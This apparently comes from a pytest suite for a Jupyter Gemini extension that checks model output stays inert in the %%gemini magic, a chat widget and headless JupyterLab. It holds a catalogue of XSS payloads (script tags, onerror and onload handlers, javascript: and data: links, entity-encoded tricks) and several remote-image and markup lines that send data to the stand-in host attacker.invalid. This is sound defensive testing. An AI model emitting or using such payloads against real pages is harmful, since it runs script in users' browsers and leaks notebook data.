"""Model output is untrusted: a catalogue of XSS and exfiltration payloads goes through
``%%gemini`` in a real kernel and through `ChatPanel`, and nothing comes out executable.

The FakeGateway echoes the prompt into its answer (and into its thinking), so each payload
comes back as model text. Checked:

- the magic: the text/html of every display_data and update_display_data a real kernel sends
  (the live view included), and the footer, whose model name the gateway controls;
- the panel: the state of every widget as it would reach the browser (each comm open and each
  update, captured where ipywidgets hands them to the comm);
- a real JupyterLab in headless chromium (tests/_lab.py): no payload runs, no element that loads
  or runs anything appears, and no request goes to the attacker's host. Skipped with the reason
  when chromium or Playwright is missing.

Every HTML fragment must pass the shared allow-list check (tests/html_check.py).
"""

from __future__ import annotations

import asyncio
import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import _lab
from conftest import KERNEL_KEY
from html_check import inert_problems
from ipygemini.testing import FakeGateway
from kernel_driver import KernelSession, kernel_env, ok

GATEWAY_KEY = KERNEL_KEY  # the key of this module's gateways (conftest.py: gateway_key)

HOST = "attacker.invalid"


@dataclass(frozen=True)
class Payload:
    kind: str
    text: str


PAYLOADS = (
    Payload("img onerror", "<img src=x onerror=window.__pwned=1>"),
    Payload("img onerror", '<IMG SRC="x" ONERROR="window.__pwned=2">'),
    Payload("script", "<script>window.__pwned=3</script>"),
    Payload("script", "<script src=https://attacker.invalid/x.js></script>"),
    Payload("svg onload", "<svg onload=window.__pwned=4>"),
    Payload("svg onload", "<svg><script>window.__pwned=5</script></svg>"),
    Payload("iframe srcdoc", '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>'),
    Payload("iframe srcdoc", "<iframe src=https://attacker.invalid/frame></iframe>"),
    Payload("style", "<style>body{background:url(https://attacker.invalid/css.png)}</style>"),
    Payload("style", '<p style="background:url(https://attacker.invalid/inline.png)">pwned</p>'),
    Payload("javascript: link", "[click me](javascript:window.__pwned=7)"),
    Payload("javascript: link", "[click me](JaVaScRiPt:window.__pwned=8)"),
    Payload("javascript: link", '<a href="javascript:window.__pwned=9">click me</a>'),
    Payload("javascript: link", "<javascript:window.__pwned=10>"),
    Payload(
        "data:text/html link",
        "[click me](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xMTwvc2NyaXB0Pg==)",
    ),
    Payload("data:text/html link", "[click me](data:text/html,<script>window.__pwned=12</script>)"),
    Payload("entity-encoded", "&lt;img src=x onerror=window.__pwned=13&gt;"),
    Payload("entity-encoded", "[click me](&#106;avascript:window.__pwned=14)"),
    Payload("entity-encoded", "[click me](&#x6A;avascript&#58;window.__pwned=15)"),
    Payload("entity-encoded", "[click me](javascript&colon;window.__pwned=16)"),
    Payload("entity-encoded", "<img src=x onerror=&#119;indow.__pwned=17>"),
    Payload("entity-encoded", "&#60;script&#62;window.__pwned=18&#60;/script&#62;"),
    Payload("remote image", "![chart](https://attacker.invalid/?q=secret-notebook-data)"),
    Payload("remote image", "![logo](http://attacker.invalid/pixel.gif)"),
    Payload("remote image", '<img src="https://attacker.invalid/?q=raw-html">'),
    Payload("remote image", "[![badge](https://attacker.invalid/badge.png)](https://ok.example)"),
    Payload(
        "remote image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcHduZWQ9MTk+)"
    ),
    Payload("other markup", '<object data="https://attacker.invalid/o.swf"></object>'),
    Payload("other markup", '<embed src="https://attacker.invalid/e.swf">'),
    Payload("other markup", '<form action="https://attacker.invalid/"><input name=q></form>'),
    Payload(
        "other markup", '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">'
    ),
    Payload(
        "other markup", '<base href="https://attacker.invalid/"><link rel=stylesheet href=x.css>'
    ),
    Payload("other markup", '<math><mi xlink:href="javascript:window.__pwned=20">x</mi></math>'),
    Payload("other markup", "[click me](vbscript:msgbox(21))"),
    Payload(
        "other markup",
        "`<script>window.__pwned=22</script>` and $<img src=x onerror=window.__pwned=23>$",
    ),
    Payload("javascript: link", "math: $\\href{javascript:window.__pwned=25}{click me}$"),
    Payload("javascript: link", "math: \\(\\href{javascript:window.__pwned=26}{click me}\\)"),
    Payload(
        "remote image", "math: $\\style{background:url(https://attacker.invalid/math.png)}{6}$"
    ),
    Payload(
        "remote image", "math: $$\\class{1}{2}\\cssId{3}{4}\\href{https://attacker.invalid/m}{5}$$"
    ),
)
REQUIRED_KINDS = {
    "img onerror",
    "script",
    "svg onload",
    "iframe srcdoc",
    "style",
    "javascript: link",
    "data:text/html link",
    "entity-encoded",
    "remote image",
}
IDS = [f"{i:02d}-{p.kind.replace(' ', '-').replace(':', '')}" for i, p in enumerate(PAYLOADS)]


def assert_inert(fragment: str) -> None:
    """`fragment` can neither run code nor load anything (the shared allow-list check)."""
    assert inert_problems(fragment) == [], fragment


def test_the_catalogue_covers_the_issue() -> None:
    assert REQUIRED_KINDS <= {p.kind for p in PAYLOADS}
    for payload in PAYLOADS:
        assert len(payload.text) < 190 and "\n" not in payload.text  # the gateway echoes it whole
        assert not re.search(r"\{[A-Za-z_]\w*\}", payload.text)  # no {name}: the magic fills those


def echoed(plain: str, payload: Payload) -> bool:
    """The payload came back in the answer (the gateway collapses whitespace). A Markdown image
    comes back as an image of the reply: then its URL is what must be there."""
    if " ".join(payload.text.split()) in plain:
        return True
    urls = re.findall(r"!\[[^\]]*\]\(([^)]+)\)", payload.text)
    # a data: image is decoded into bytes: its MIME type is what shows
    shown = [u.split(";")[0].removeprefix("data:") if u.startswith("data:") else u for u in urls]
    return bool(shown) and all(u in plain for u in shown)


# --- %%gemini in a real kernel ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_magic(payload: Payload, kernel: KernelSession, reliability: Any) -> None:
    cell = ok(kernel.run(f"%%gemini --thinking\n{payload.text} [fake:delay=0.002]"))
    every = [m["content"]["data"] for m in cell.of_type("display_data", "update_display_data")]
    assert echoed(" ".join(d.get("text/plain", "") for d in every), payload)
    assert len(every) >= 4  # placeholders, live updates, thinking, blocks, footer
    for data in every:
        assert_inert(data.get("text/html", ""))
        assert set(data) <= {
            "text/plain",
            "text/html",
            "image/png",
            "image/jpeg",
            "image/gif",
            "image/webp",
        }
    reliability.record("payload", payload=payload.text, kind=payload.kind, front_end="%%gemini")


def test_magic_gateway_controlled_model_name(kernel: KernelSession, reliability: Any) -> None:
    """The footer shows the model the gateway names; a hostile name stays text."""
    name = "<img src=x onerror=window.__pwned=24>"
    cell = ok(kernel.run(f"%%gemini -m '{name}'\nhello"))
    shown = [d for d in (m["content"]["data"] for m in cell.of_type("display_data")) if d]
    answer = shown[-1]  # the answer's one output ends with its footer
    assert answer["text/plain"].rpartition("\n\n— ")[2].startswith(name)
    assert_inert(answer["text/html"])
    reliability.record(
        "payload", payload=f"model name {name}", kind="gateway metadata", front_end="%%gemini"
    )


# --- ChatPanel ----------------------------------------------------------------------------------------


@pytest.fixture
def sent_to_browser(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """Every widget state that would reach the browser: each comm open and update, captured by
    a comm of our own through `comm.create_comm` (the hook the comm package provides for it)."""
    pytest.importorskip("ipywidgets")
    import comm
    from comm.base_comm import BaseComm

    states: list[dict[str, Any]] = []

    class RecordingComm(BaseComm):
        def publish_msg(
            self,
            msg_type: str,
            data: dict[str, Any] | None = None,
            metadata: dict[str, Any] | None = None,
            buffers: Any = None,
            **keys: Any,
        ) -> None:
            if msg_type in ("comm_open", "comm_msg"):
                data = data or {}
                states.append(data.get("state") or data.get("content") or {})  # or a custom message

    monkeypatch.setattr(comm, "create_comm", RecordingComm)
    return states


def test_panel(gw: FakeGateway, sent_to_browser: list[dict[str, Any]], reliability: Any) -> None:
    from ipygemini import AsyncClient
    from ipygemini.panel import ChatPanel

    async def main() -> list[str]:
        async with AsyncClient(base_url=gw.base_url, api_key=KERNEL_KEY) as client:
            panel = ChatPanel(client=client, load_models=False, thinking=True)
            try:
                for payload in PAYLOADS:
                    reply = await panel.send(f"{payload.text} [fake:delay=0.002]")
                    assert reply.status == "complete", reply
                    urls = " ".join(i.url or i.mime_type for i in reply.images)
                    assert echoed(f"{reply.text} {urls}", payload), (payload, reply.text)
                return [e.html() for e in panel._session.transcript.entries]
            finally:
                panel.close()

    final = asyncio.run(main())
    fragments = list(final)
    for state in sent_to_browser:
        for op in state.get("ops", ()):
            fragments.extend(op[k] for k in ("html", "footer", "error", "title") if k in op)
        for key in ("value", "description", "tooltip", "placeholder", "titles", "_titles"):
            value = state.get(key)
            if isinstance(value, str):
                fragments.append(value)
            elif isinstance(value, list | tuple):
                fragments.extend(v for v in value if isinstance(v, str))
    assert len(sent_to_browser) > 5 * len(PAYLOADS)  # the panel sends few, batched messages
    checked = 0
    for fragment in fragments:
        if not fragment.strip():
            continue
        assert_inert(fragment)
        checked += 1
    assert checked > len(PAYLOADS)
    for payload in PAYLOADS:
        reliability.record(
            "payload", payload=payload.text, kind=payload.kind, front_end="ChatPanel"
        )


# --- the browser ----------------------------------------------------------------------------------------

REASON = _lab.missing()


@pytest.mark.skipif(REASON is not None, reason=f"browser check skipped: {REASON}")
def test_browser(tmp_path: Path, reliability: Any) -> None:
    texts = [p.text for p in PAYLOADS]
    cells = [
        "%load_ext ipygemini",
        "PAYLOADS = " + json.dumps(texts) + "\n"
        "for text in PAYLOADS:\n"
        "    get_ipython().run_cell_magic('gemini', '--thinking', text)\n"
        "print('magic done', len(PAYLOADS))",
        "from ipygemini import ChatPanel\npanel = ChatPanel(load_models=False, thinking=True)\npanel",
        "for text in PAYLOADS:\n    await panel.send(text)\nprint('panel done', panel.conversation.turns)",
    ]
    # every output of every cell in the page: no trimming to 50 outputs, no virtual scrolling
    tracker = tmp_path / "settings" / "@jupyterlab" / "notebook-extension"
    tracker.mkdir(parents=True)
    (tracker / "tracker.jupyterlab-settings").write_text(
        json.dumps({"maxNumberOutputs": 100_000, "windowingMode": "none"})
    )
    with FakeGateway(api_key=KERNEL_KEY) as gateway:
        env = kernel_env(gateway)
        lab_env = {k: env[k] for k in ("GEMINI_BASE_URL", "GEMINI_API_KEY")}
        with _lab.Lab(tmp_path, lab_env) as lab:
            _lab.write_notebook(lab.root / "payloads.ipynb", cells)
            with _lab.chromium_page(tmp_path) as page:
                requests: list[str] = []
                page.on("request", lambda request: requests.append(request.url))
                _lab.open_notebook(page, lab.url("payloads.ipynb"))
                for index, done in enumerate(
                    ["", f"magic done {len(PAYLOADS)}", "", f"panel done {len(PAYLOADS)}"]
                ):
                    _lab.run_cell(page, index)
                    if done:
                        page.locator(".jp-OutputArea-output", has_text=done).wait_for(
                            timeout=120_000
                        )
                page.locator(".ipygemini-answer").nth(len(PAYLOADS) - 1).wait_for(timeout=60_000)
                report: dict[str, Any] = page.evaluate(
                    """() => {
                        const area = [...document.querySelectorAll('.jp-OutputArea')];
                        const inside = sel => area.flatMap(a => [...a.querySelectorAll(sel)]);
                        return {
                            pwned: window.__pwned ?? null,
                            parentPwned: window.parent.__pwned ?? null,
                            // JupyterLab's own: icons, MathJax's rendering of math text, the
                            // panel's constant style sheet
                            active: inside('script, iframe, object, embed, svg, math, form, meta, base, link, style, frame, video, audio, source, input')
                                .filter(e => !e.closest('mjx-container, [data-icon]'))
                                .filter(e => !(e.tagName === 'STYLE' && e.textContent.includes('.ipygemini-panel')))
                                .filter(e => !(e.tagName === 'INPUT' && !e.closest('.widget-html-content, .jp-RenderedHTMLCommon')))
                                .map(e => e.outerHTML.slice(0, 160)),
                            images: inside('img').map(e => e.getAttribute('src') || ''),
                            links: inside('*').flatMap(e => [...e.attributes]
                                .filter(a => a.name.endsWith('href')).map(a => a.value)),
                            styles: inside('[style]').map(e => e.getAttribute('style'))
                                .filter(s => s.includes('url(')),
                            math: inside('mjx-container').length,
                            answers: document.querySelectorAll('.ipygemini-answer').length,
                        };
                    }"""
                )
                # clicking every link that survived must not run anything either
                for link in page.locator(".jp-OutputArea a[href]").all()[:60]:
                    href = link.get_attribute("href") or ""
                    if not href.startswith("http"):
                        link.click(modifiers=["Control"])
                pwned_after_clicks = page.evaluate("() => window.__pwned ?? null")
                page.screenshot(path=str(tmp_path / "payloads.png"), full_page=True)
    assert report["pwned"] is None and report["parentPwned"] is None and pwned_after_clicks is None
    assert report["math"] > 0  # MathJax typeset the math payloads (\\href, \\style, ...)
    assert report["active"] == [], report["active"]
    # only images from bytes (blob:/data:image of generated images), never a URL to load
    assert all(src.startswith(("blob:", "data:image/")) for src in report["images"]), report[
        "images"
    ]
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in report["links"])
    assert report["styles"] == []
    assert report["answers"] >= len(PAYLOADS)
    assert not [url for url in requests if HOST in url], [u for u in requests if HOST in u]
    for payload in PAYLOADS:
        reliability.record(
            "payload", payload=payload.text, kind=payload.kind, front_end="JupyterLab + Chromium"
        )
